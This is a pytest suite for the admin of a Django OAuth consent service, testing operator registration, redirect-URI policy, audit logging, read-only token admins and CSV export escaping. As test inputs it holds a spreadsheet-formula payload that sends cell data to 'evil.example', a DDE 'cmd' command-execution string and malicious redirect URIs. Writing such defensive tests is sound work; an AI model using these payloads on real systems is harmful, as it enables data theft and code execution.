"""The operator's registration in the admin: the same policy and flow as DCR and CIMD."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone
from oauth2_provider.models import (
    get_access_token_model,
    get_application_model,
    get_refresh_token_model,
)

from mcp_consent.models import AuditEvent, Consent, MCPClient, RedirectURI, UpstreamToken
from tests.browser_client import Browser, authorize_params
from tests.factories import MCPClientFactory
from tests.mcp_tokens import access_token_valid, issue_token

pytestmark = pytest.mark.django_db


@pytest.fixture
def operator(client):
    user = get_user_model().objects.create_superuser("operator", "op@example.com", "x")
    client.force_login(user)
    return client


def test_operator_registers_a_verified_client_through_the_flow(operator) -> None:
    """Admin registration writes Application, MCPClient and RedirectURI rows; verified on the page."""
    response = operator.post(
        reverse("admin:mcp_consent_mcpclient_register"),
        {
            "client_name": "Company Agent",
            "redirect_uris": "https://agent.example.com/cb\nhttp://127.0.0.1:7777/cb",
        },
    )
    assert response.status_code == 302
    client = MCPClient.objects.get()
    assert client.registration_source == "admin"
    assert client.verified
    assert client.application.client_type == "public"
    assert list(RedirectURI.objects.values_list("uri", flat=True)) == [
        "https://agent.example.com/cb",
        "http://127.0.0.1:7777/cb",
    ]
    page = Browser().authorize(authorize_params(client))
    assert page.status_code == 200
    assert "Verified" in page.content.decode()
    assert "Self-registered" not in page.content.decode()


@pytest.mark.parametrize(
    "uri", ["http://evil.example/cb", "https://*.example.com/cb", "javascript:alert(1)"]
)
def test_operator_registration_follows_the_redirect_uri_policy(operator, uri) -> None:
    """DCR-11, DCR-13, DCR-14 apply to operators too; nothing is written on refusal."""
    response = operator.post(
        reverse("admin:mcp_consent_mcpclient_register"), {"client_name": "X", "redirect_uris": uri}
    )
    assert response.status_code == 200
    assert "redirect URI" in response.content.decode()
    assert not get_application_model().objects.exists()
    assert not MCPClient.objects.exists()


def test_confidential_client_secret_is_shown_once(operator) -> None:
    response = operator.post(
        reverse("admin:mcp_consent_mcpclient_register"),
        {
            "client_name": "Server",
            "redirect_uris": "https://srv.example.com/cb",
            "confidential": "on",
        },
        follow=True,
    )
    assert "client_secret (shown once" in response.content.decode()
    assert MCPClient.objects.get().application.client_type == "confidential"


def test_dot_application_admin_cannot_add_or_edit_security_fields(operator) -> None:
    """No way around the registration policy through DOT's own Application admin."""
    add = operator.get(reverse("admin:oauth2_provider_application_add"))
    assert add.status_code == 403
    operator.post(
        reverse("admin:mcp_consent_mcpclient_register"),
        {"client_name": "A", "redirect_uris": "https://a.example/cb"},
    )
    application = get_application_model().objects.get()
    change = operator.get(
        reverse("admin:oauth2_provider_application_change", args=[application.pk])
    )
    assert change.status_code == 200
    assert 'name="redirect_uris"' not in change.content.decode()


def test_upstream_token_admin_never_shows_secrets(operator) -> None:
    """UP-07: the admin shows no ciphertext or token of the vault."""
    browser = Browser()
    browser.login_upstream()
    browser.run_flow(authorize_params(MCPClientFactory()))
    token = UpstreamToken.objects.get()
    page = operator.get(
        reverse("admin:mcp_consent_upstreamtoken_change", args=[token.pk])
    ).content.decode()
    assert token.access_token_encrypted not in page
    assert token.refresh_token_encrypted not in page


# --- Issue 9 item 4: the admin tells clients apart; the operator's address is recorded ---

OPERATOR_IP = "198.51.100.23"


@pytest.fixture
def operator_at_desk(operator):  # type: ignore[no-untyped-def]
    operator.defaults["REMOTE_ADDR"] = OPERATOR_IP
    return operator


def twin_clients() -> tuple[MCPClient, MCPClient]:
    """Two clients with the same self-asserted name: only client_id and host tell them apart."""
    return (
        MCPClientFactory(client_name="Claude", redirect_uris=["https://claude.example/cb"]),
        MCPClientFactory(client_name="Claude", redirect_uris=["https://collector.evil.example/cb"]),
    )


def test_client_and_consent_lists_show_client_id_and_redirect_host(operator) -> None:
    real, twin = twin_clients()
    issue_token(client=real)
    issue_token(client=twin)
    for url in (
        reverse("admin:mcp_consent_mcpclient_changelist"),
        reverse("admin:mcp_consent_consent_changelist"),
    ):
        page = operator.get(url).content.decode()
        for client, host in ((real, "claude.example"), (twin, "collector.evil.example")):
            assert client.application.client_id in page, url
            assert host in page, url


def test_by_client_filter_names_the_chosen_client(operator) -> None:
    real, twin = twin_clients()
    issue_token(client=real)
    issue_token(client=twin)
    url = reverse("admin:mcp_consent_consent_changelist")
    page = operator.get(url, {"client": twin.application.client_id}).content.decode()
    assert f"Claude — {twin.application.client_id} — collector.evil.example" in page
    # Only the twin's consent is listed: the real client's id appears nowhere on the page.
    assert real.application.client_id not in page
    assert 'name="client"' in page  # a text box, not one link per client


def test_revoke_confirmation_tells_the_twins_apart(operator) -> None:
    real, twin = twin_clients()
    issue_token(client=real)
    issue_token(client=twin)
    consent = Consent.objects.get(client=twin)
    page = operator.post(
        reverse("admin:mcp_consent_consent_changelist"),
        {"action": "revoke_consents", "_selected_action": [consent.pk]},
    ).content.decode()
    assert twin.application.client_id in page
    assert "collector.evil.example" in page
    assert real.application.client_id not in page
    clients = operator.post(
        reverse("admin:mcp_consent_mcpclient_changelist"),
        {"action": "disable_clients", "_selected_action": [real.pk]},
    ).content.decode()
    assert real.application.client_id in clients
    assert "claude.example" in clients


def test_registration_access_token_is_labelled_not_a_century_token(operator) -> None:
    """MGMT-05: the RFC 7592 token is shown as what it is, valid while the client exists."""
    client = MCPClientFactory()  # DCR: gets a registration access token
    token = get_access_token_model().objects.get(application=client.application)
    listing = operator.get(reverse("admin:oauth2_provider_accesstoken_changelist"))
    html = listing.content.decode()
    assert "RFC 7592 registration access token" in html
    assert "while the client is registered" in html
    assert str(token.expires.year) not in html
    change = operator.get(reverse("admin:oauth2_provider_accesstoken_change", args=[token.pk]))
    assert "RFC 7592 registration access token" in change.content.decode()
    ours = operator.get(reverse("admin:mcp_consent_mcpclient_change", args=[client.pk]))
    assert "RFC 7592 registration access token issued" in ours.content.decode()


def test_admin_actions_record_the_operators_address(operator_at_desk) -> None:
    """Issue 9 item 4: every event of an operator's action carries the operator's IP."""
    real, twin = twin_clients()
    issue_token(client=real)
    issue_token(client=twin)
    consents = reverse("admin:mcp_consent_consent_changelist")
    operator_at_desk.post(
        consents,
        {
            "action": "revoke_consents",
            "_selected_action": [Consent.objects.get(client=real).pk],
            "apply": "1",
            "reason": "phished",
        },
    )
    operator_at_desk.post(
        reverse("admin:mcp_consent_mcpclient_changelist"),
        {"action": "disable_clients", "_selected_action": [twin.pk], "apply": "1", "reason": "x"},
    )
    operator_at_desk.post(
        reverse("admin:mcp_consent_mcpclient_register"),
        {"client_name": "Desk", "redirect_uris": "https://desk.example/cb"},
    )
    events = AuditEvent.objects.filter(actor_type="operator")
    assert {e.action for e in events} >= {
        "consent_revoked",
        "upstream_token_revoked",
        "client_disabled",
        "client_registered",
    }
    assert {e.ip_address for e in events} == {OPERATOR_IP}


def test_audit_list_names_actor_client_consent_and_address(operator_at_desk) -> None:
    connected = issue_token()
    page = operator_at_desk.get(reverse("admin:mcp_consent_auditevent_changelist")).content.decode()
    for text in (
        connected.client.application.client_id,
        str(connected.consent.pk),
        "column-ip_address",
    ):
        assert text in page


# --- SEC-07: no spreadsheet formula in the CSV export ---


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_formulas(operator, lead) -> None:
    """SEC-07 (OWASP CSV injection): a User-Agent or client name starting with a formula
    character is exported with a leading ' so no spreadsheet evaluates it."""
    import csv
    import io

    payload = f'{lead}HYPERLINK("https://evil.example/?"&A1,"x")'
    operator.defaults["HTTP_USER_AGENT"] = payload
    operator.post(
        reverse("admin:mcp_consent_mcpclient_register"),
        {"client_name": f"{lead}cmd|' /C calc'!A0", "redirect_uris": "https://a.example/cb"},
    )
    MCPClientFactory(client_name=f"{lead}SUM(1+1)")
    export = operator.post(
        reverse("admin:mcp_consent_auditevent_changelist"),
        {
            "action": "export_csv",
            "_selected_action": list(AuditEvent.objects.values_list("pk", flat=True)),
        },
    )
    body = b"".join(export.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert len(rows) == 1 + AuditEvent.objects.count()
    cells = [cell for row in rows[1:] for cell in row]
    assert payload not in cells  # the User-Agent column
    assert f"'{payload}" in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
    # The names stay readable inside the details (JSON text, starting with "{").
    assert any("SUM(1+1)" in cell for cell in cells)


def test_csv_cells_keep_their_text() -> None:
    from mcp_consent.admin.audit_trail import spreadsheet_safe

    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("plain") == "plain"
    assert spreadsheet_safe(-5) == -5  # numbers are numbers
    assert spreadsheet_safe("") == ""


# --- SEC-09: DOT's token and grant admins are read-only; revocation goes through the flow ---


def _live_tokens() -> Any:
    connected = issue_token()
    refresh = get_refresh_token_model().objects.get(user__isnull=False)
    access = get_access_token_model().objects.get(user__isnull=False)
    return connected, refresh, access


def test_dot_token_admins_refuse_every_change(operator) -> None:
    """SEC-09: an operator posting DOT's change, add and delete forms changes nothing."""
    connected, refresh, access = _live_tokens()
    rotated = issue_token(client_name="Other")  # a revoked refresh token to try to un-revoke
    old_refresh = get_refresh_token_model().objects.get(application=rotated.client.application)
    old_refresh.revoke()
    old_refresh.refresh_from_db()
    revoked_at = old_refresh.revoked
    other = get_user_model().objects.create_user("mallory")
    fields = ("user_id", "scope", "expires", "resource", "application_id")
    before_access = {f: getattr(access, f) for f in fields}
    for name, obj, data in (
        (
            "accesstoken",
            access,
            {
                "user": other.pk,
                "scope": "mcp admin",
                "expires_0": "2999-01-01",
                "expires_1": "00:00:00",
                "resource": '["https://evil.example/"]',
                "application": access.application_id,
            },
        ),
        ("refreshtoken", old_refresh, {"revoked_0": "", "revoked_1": "", "user": other.pk}),
        ("grant", None, {}),
    ):
        add = reverse(f"admin:oauth2_provider_{name}_add")
        assert operator.get(add).status_code == 403, name
        assert operator.post(add, data).status_code == 403, name
        if obj is None:
            continue
        change = reverse(f"admin:oauth2_provider_{name}_change", args=[obj.pk])
        assert operator.post(change, data).status_code == 403, name
        view = operator.get(change)
        assert view.status_code == 200
        assert 'name="user"' not in view.content.decode()
        delete = reverse(f"admin:oauth2_provider_{name}_delete", args=[obj.pk])
        assert operator.post(delete, {"post": "yes"}).status_code == 403
    access.refresh_from_db()
    old_refresh.refresh_from_db()
    assert {f: getattr(access, f) for f in fields} == before_access
    assert old_refresh.revoked == revoked_at
    assert old_refresh.user_id != other.pk
    assert access_token_valid(connected.access_token)
    application = connected.client.application
    app_change = reverse("admin:oauth2_provider_application_change", args=[application.pk])
    assert operator.post(app_change, {"name": "Renamed"}).status_code == 403
    application.refresh_from_db()
    assert application.name == "Acme Agent"


def test_dot_token_revoke_goes_through_the_audited_flow(operator_at_desk) -> None:
    """SEC-09: the one way to end a token in the admin is the consent cascade, audited."""
    connected, refresh, access = _live_tokens()
    url = reverse("admin:oauth2_provider_accesstoken_changelist")
    listing = operator_at_desk.get(url).content.decode()
    assert "revoke_with_consent" in listing
    assert 'value="revoke_tokens"' not in listing
    assert 'value="delete_selected"' not in listing
    data = {"action": "revoke_with_consent", "_selected_action": [access.pk]}
    confirm = operator_at_desk.post(url, data)
    assert confirm.status_code == 200
    assert connected.client.application.client_id in confirm.content.decode()
    operator_at_desk.post(url, {**data, "apply": "1", "reason": "leaked in a log"})
    assert not access_token_valid(connected.access_token)
    assert connected.refresh().status_code == 400
    connected_consent = Consent.objects.get(client=connected.client)
    assert connected_consent.revoked_at is not None
    event = AuditEvent.objects.get(action="consent_revoked")
    assert event.actor_type == "operator"
    assert event.details["reason"] == "leaked in a log"
    assert event.ip_address == OPERATOR_IP
    assert not UpstreamToken.objects.exists()


def test_consent_auditors_cannot_revoke_tokens(client) -> None:
    from django.contrib.auth.models import Group

    connected, refresh, access = _live_tokens()
    auditor = get_user_model().objects.create_user("auditor", is_staff=True)
    auditor.groups.add(Group.objects.get(name="consent auditor"))
    client.force_login(auditor)
    url = reverse("admin:oauth2_provider_accesstoken_changelist")
    client.post(
        url,
        {
            "action": "revoke_with_consent",
            "_selected_action": [access.pk],
            "apply": "1",
            "reason": "x",
        },
    )
    assert Consent.objects.get(client=connected.client).revoked_at is None


def test_dot_token_without_consent_is_revoked_and_audited(operator_at_desk) -> None:
    """SEC-09: a token with no live consent behind it still ends through the flow, audited
    with the operator's reason, the count and the operator's address."""
    from datetime import timedelta

    from django.utils import timezone

    client = MCPClientFactory()
    person = get_user_model().objects.create_user("stray")
    token = get_access_token_model().objects.create(
        user=person,
        application=client.application,
        token="",
        token_checksum="f" * 64,
        expires=timezone.now() + timedelta(hours=1),
        scope="mcp",
    )
    url = reverse("admin:oauth2_provider_accesstoken_changelist")
    operator_at_desk.post(
        url,
        {
            "action": "revoke_with_consent",
            "_selected_action": [token.pk],
            "apply": "1",
            "reason": "found in a paste",
        },
    )
    assert not get_access_token_model().objects.filter(pk=token.pk).exists()
    event = AuditEvent.objects.get(action="token_revoked")
    assert event.actor_type == "operator"
    assert event.ip_address == OPERATOR_IP
    assert event.subject_user_id == person.pk
    assert event.client_id == client.application.client_id
    assert event.details == {
        "reason": "found in a paste",
        "oauth_tokens_revoked": 1,
        "no_live_consent": True,
    }


def test_cimd_13_operator_blocks_a_domain_in_the_admin_and_it_is_audited(operator) -> None:
    """CIMD-13 / ABUSE-04: the trust policy is admin-editable; each change is audited."""
    from mcp_consent.models import AuditEvent, CIMDDomainRule

    response = operator.post(
        "/admin/mcp_consent/cimddomainrule/add/",
        {"domain": ".Evil.example", "policy": "block", "note": "phishing"},
    )
    assert response.status_code == 302, response.content[:500]
    rule = CIMDDomainRule.objects.get()
    assert rule.domain == ".evil.example"
    event = AuditEvent.objects.get(action=AuditEvent.Action.CIMD_RULE_CHANGED)
    assert event.details["domain"] == ".evil.example"
    assert event.details["policy"] == "block"
    assert event.actor_type == "operator"
    page = operator.get(
        "/authorize/",
        {"client_id": "https://app.evil.example/c.json", "response_type": "code"},
    )
    assert page.status_code == 403


def test_consent_status_filter_and_active_count_use_the_one_live_definition(operator) -> None:
    """SEC-01: "active" in the admin is ``live_consent``: a consent past expires_at that the
    cleanup has not retired yet is expired there too, and is not counted as active."""
    client = MCPClientFactory()
    now = timezone.now()

    def consent(username: str, **state: Any) -> Consent:
        user = get_user_model().objects.create_user(username)
        return Consent.objects.create(
            user=user,
            client=client,
            redirect_uri="https://app.example/cb",
            scopes="mcp",
            resource="http://127.0.0.1:8000/mcp",
            client_metadata_version=1,
            **{"expires_at": now + timedelta(days=1), **state},
        )

    live = consent("live")
    lapsed = consent("lapsed", expires_at=now - timedelta(seconds=1))
    retired = consent("retired", expires_at=now - timedelta(days=1), expired_at=now)
    revoked = consent("revoked", revoked_at=now)
    changelist = reverse("admin:mcp_consent_consent_changelist")

    def listed(status: str) -> set[int]:
        response = operator.get(changelist, {"status": status})
        assert response.status_code == 200
        return {row.pk for row in response.context["cl"].result_list}

    assert listed("active") == {live.pk}
    assert listed("expired") == {lapsed.pk, retired.pk}
    assert listed("revoked") == {revoked.pk}
    clients = operator.get(reverse("admin:mcp_consent_mcpclient_changelist"))
    assert [row._active_consents for row in clients.context["cl"].result_list] == [1]
